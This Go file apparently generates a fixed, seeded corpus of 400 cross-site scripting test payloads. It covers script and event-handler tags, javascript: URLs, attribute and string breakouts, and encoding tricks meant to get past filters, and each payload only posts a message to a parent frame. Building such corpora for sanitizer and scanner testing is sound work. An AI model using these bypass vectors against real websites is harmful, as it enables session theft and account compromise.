package xss

import (
	"encoding/base64"
	"math/rand/v2"
	"strings"
)

// Count is how many payloads there are.
const Count = 400

// codes tell the frame's parent that they run. {E} is the address of a script of
// another origin.
var codes = [...]string{
	"top.postMessage(1,'*')", "top.postMessage(1)", "top.postMessage`1`", "top['post'+'Message'](1)", "window.top.postMessage(1)",
	"setTimeout('top.postMessage(1)')", "Function('top.postMessage(1)')()", "[1].map(top.postMessage.bind(top))", "with(top)postMessage(1)",
}

// An element runs C; A is C where double quotes are taken.
var elements = [...]string{
	"<script>C</script>", "<SCRIPT>C</SCRIPT>", "<ScRiPt>C</sCrIpT>", "<script/x>C</script>", "<script\n>C</script>", "<script\t>C</script >", "<script>/*&*/C</script>", "<script type=module>C</script>", "<script>//\nC\n</script>",
	"<script src={E}></script>", "<script src='{E}'></script>", "<SCRIPT SRC={E}></SCRIPT>", "<script/src={E}></script>", "<script async src={E}></script>", "<script src=\"{E}\" ></script x>",
	"<img src=x onerror=C>", "<img src=x onerror=\"C\">", "<IMG SRC=x ONERROR=C>", "<img/src=x/onerror=C>", "<img src=x oNeRrOr=C>", "<img\nsrc=x\nonerror=C>", "<img src=x onerror = C >", "<img src onerror=C>", "<img src=x:x onerror=C//",
	"<img src=x onerror=eval(atob('B64'))>", "<img src=x onerror=ENT>", "<image src=x onerror=C>", "<img srcset=x onerror=C>", "<img onerror=C src=x alt='a'>",
	"<svg onload=C>", "<svg/onload=C>", "<SVG ONLOAD=C>", "<svg\nonload=C>", "<svg onload=C//", "<svg><script>C</script></svg>", "<svg><animate onbegin=C attributeName=x dur=1s>", "<svg><set onbegin=C attributeName=x to=1>", "<svg><a xlink:href=\"javascript:C\"><text y=20>x</text></a></svg>", "<svg><a href=javascript:C><text y=20>x</text></a></svg>",
	"<svg><image href=x onerror=C></svg>", "<svg><style onload=C></style></svg>", "<svg><foreignObject><img xmlns=\"http://www.w3.org/1999/xhtml\" src=\"x\" onerror=\"C\"/></foreignObject></svg>", "<svg><script xlink:href={E}></script></svg>", "<svg><script href={E} /></svg>",
	"<body onload=C>", "<body onpageshow=C>", "<body onresize=C onfocus=C>", "<iframe src=javascript:C></iframe>", "<iframe src=\"javascript:C\">", "<iframe onload=C></iframe>", "<iframe srcdoc=\"<script>parent.C</script>\"></iframe>", "<iframe srcdoc='&lt;img src=x onerror=parent.C&gt;'></iframe>", "<iframe src=\"data:text/html,<script>top.postMessage(1,'*')</script>\"></iframe>",
	"<object data=\"data:text/html,<script>top.postMessage(1,'*')</script>\"></object>", "<embed src=\"data:text/html,<script>top.postMessage(1,'*')</script>\">", "<object onerror=C data=x:x></object>",
	"<a href=javascript:C>x</a>", "<a href=\"javascript:C\">x</a>", "<a href=\"JaVaScRiPt:C\">x</a>", "<a href=\"java&#9;script:C\">x</a>", "<a href=\" &#14; javascript:C\">x</a>", "<a href=\"&#106;avascript:C\">x</a>", "<a href=\"javascript&colon;C\">x</a>", "<a href=\"java\nscript:C\">x</a>",
	"<form action=javascript:C><button>x</button></form>", "<form><button formaction=javascript:C>x</button></form>", "<form><input type=submit formaction=javascript:C>", "<form id=f></form><button form=f formaction=javascript:C>x</button>",
	"<details open ontoggle=C>", "<details ontoggle=C open><summary>x</summary></details>", "<video><source onerror=C></video>", "<video src=x onerror=C></video>", "<audio src=x onerror=C>", "<video poster=x onloadstart=C src=x>", "<audio onloadstart=C src=x>",
	"<input autofocus onfocus=C>", "<select autofocus onfocus=C>", "<textarea autofocus onfocus=C>", "<button autofocus onfocus=C>x</button>", "<p contenteditable autofocus onfocus=C>x", "<xss tabindex=1 autofocus onfocus=C>", "<keygen autofocus onfocus=C>", "<input onblur=C autofocus><input autofocus>",
	"<x onclick=C>x</x>", "<div onclick=C>x</div>", "<b onmouseover=C>x</b>", "<div onmouseover=\"C\" style=display:block>x</div>", "<p onmouseenter=C>x</p>", "<p onpointerover=C>x</p>", "<a onmousemove=C>x</a>", "<div onwheel=C>x</div>", "<input oninput=C>", "<div onanimationstart=C>x</div>",
	"<marquee onstart=C>x</marquee>", "<style onload=C></style>", "<link rel=stylesheet href=data:text/css, onload=C>", "<link rel=stylesheet href=x onerror=C>", "<math><mtext><img src=x onerror=C></mtext></math>", "<table><td onclick=C>x</table>", "<noscript><p title=\"</noscript><img src=x onerror=C>\">",
	"<<script>C//<</script>", "<b><script>C</script></b>", "<!--><img src=x onerror=C>-->", "<template></template><img src=x onerror=C>", "<p title=\"a>b\" onclick=C>x</p>", "<img src=\"a>b\" onerror=C>", "<a title='\"' onclick=C>x</a>", "<isindex onclick=C>", "<base target=x><img src=x onerror=C>", "<dialog open onclick=C>x</dialog>",
	"<script>eval(atob('B64'))</script>", "<script>import('{E}')</script>", "<script>document.body.appendChild(document.createElement('script')).src='{E}'</script>", "<script>location='javascript:C'</script>", "<script nonce=x>C</script>", "<script integrity=x src=x></script><script>C</script>",
}

// prefixes leave the place that the input stands in.
var prefixes = [...]string{"", "", "", "\">", "'>", ">", "</title>", "</script>", "\"><b>", "'></a>", " ", "--></textarea></title></style></script>", "x", "\"/>", "\\\">", "\n", "&quot;>", "1<!-- -->"}

// attributes are what stands behind an input that closed its attribute.
var attributes = [...]string{
	"\" autofocus onfocus=\"C", "\" onmouseover=\"C", "\" onclick=\"C\" x=\"", "\"onclick=\"C", "\" onfocus=C autofocus x=\"", "\"/onclick=C/x=\"", "\"\nonclick\n=\nC x=\"", "\" oNcLiCk=\"C", "\" onclick='C' x=\"", "\" style=\"display:block\" onmouseover=\"C",
	"' autofocus onfocus='C", "' onmouseover='C", "' onclick='C' x='", "'onclick='C", "' onfocus=C autofocus x='", "'/onclick=C/x='", "'\tonclick=C x='", "' ONCLICK='C",
	" onclick=C", " onclick=C x=", " autofocus onfocus=C", "\tonmouseover=C ", "x onclick=C//", "/onclick=C/", "\nonclick=C\n", "x autofocus onfocus=C tabindex=1",
}

// addresses run where an address stands.
var addresses = [...]string{
	"javascript:C", "JAVASCRIPT:C", "JaVaScRiPt:C", "javascript:C//", "javascript://%0aC", "javascript://x/%0aC", "java\tscript:C", "java\nscript:C", "\x01javascript:C", " javascript:C", "\tjavascript:C", "javascript\t:C",
	"&#106;avascript:C", "javascript&colon;C", "java&Tab;script:C", "java&NewLine;script:C", "&#x6A;avascript:C", "javascript:void(C)", "javascript:/**/C", "javascript:'<script>C</script>'", "javascript:eval(atob('B64'))", "javascript:%74op.postMessage(1)", "javascript:%22x%22;C", "data:text/html,<script>top.postMessage(1,'*')</script>",
	"\x0bjavascript:C", "jav&#x0A;ascript:C", "javascript:C;x='", "javascript:{C}",
}

// scripts run where a script's text stands.
var scripts = [...]string{
	"\";C;//", "\";C;\"", "\"-C-\"", "\"+C+\"", "\"||C||\"", "\";\nC\n//", "\"};C;//", "\";C<!--", "\"*C*\"", "\",C,\"", "\"in C in\"",
	"';C;//", "';C;'", "'-C-'", "'+C+'", "';\nC\n//", "'};C;//", "');C;//", "');C;('", "',C,'", "')-C-('", "']);C;//", "'/C/'", "'?C:'",
	"${C}", "`;C;//", "`-C-`", "${`${C}`}", "`+C+`", "x${C}y", "${alert=C}", "`,C,`",
	"</script><script>C</script>", "</SCRIPT><script>C</script>", "</script ><img src=x onerror=C>", "\"</script><svg onload=C>", "'</script/><script>C</script>",
	"&#39;);C;//", "&apos;);C;//", "&#x27;-C-&#x27;", "&#39);C;('", "\\\";C;//", "\\';C;//", "\u2028C\u2028//", "\";C//\u2028", "'+(C)+'", "\"+[C]+\"", "\";{C}\"",
}

// Payloads makes all, the same for a seed: 250 by elements, 50 each by attributes,
// addresses and scripts.
func Payloads(seed uint64) []string {
	random := rand.New(rand.NewPCG(seed, 8))
	seen := map[string]bool{}
	var all []string
	add := func(n int, make func() string) {
		for want := len(all) + n; len(all) < want; {
			if p := make(); !seen[p] {
				seen[p] = true
				all = append(all, p)
			}
		}
	}
	code := func() string { return codes[random.IntN(len(codes))] }
	order := random.Perm(len(elements))
	add(250, func() string {
		// Every element comes before one comes twice.
		e := elements[order[len(all)%len(order)]]
		return prefixes[random.IntN(len(prefixes))] + fill(e, code())
	})
	add(50, func() string { return fill(attributes[random.IntN(len(attributes))], code()) })
	add(50, func() string { return fill(addresses[random.IntN(len(addresses))], code()) })
	add(50, func() string { return fill(scripts[random.IntN(len(scripts))], code()) })
	return all
}

// fill puts code into a form.
func fill(form, code string) string {
	if strings.Contains(form, "parent.C") {
		code = "top.postMessage(1)"
		form = strings.ReplaceAll(form, "parent.C", "C")
	}
	form = strings.ReplaceAll(form, "B64", base64.StdEncoding.EncodeToString([]byte("top.postMessage(1)")))
	var entities strings.Builder
	for i := range len(code) {
		entities.WriteString("&#" + string('0'+rune(code[i]/100)) + string('0'+rune(code[i]/10%10)) + string('0'+rune(code[i]%10)) + ";")
	}
	form = strings.ReplaceAll(form, "ENT", entities.String())
	return replaceCode(form, code)
}

// replaceCode puts code where a C stands alone.
func replaceCode(form, code string) string {
	var b strings.Builder
	for i := range len(form) {
		alone := form[i] == 'C' && (i == 0 || !letter(form[i-1])) && (i+1 == len(form) || !letter(form[i+1]))
		if alone {
			b.WriteString(code)
			continue
		}
		b.WriteByte(form[i])
	}
	return b.String()
}

func letter(c byte) bool { return 'a' <= c|0x20 && c|0x20 <= 'z' || '0' <= c && c <= '9' }
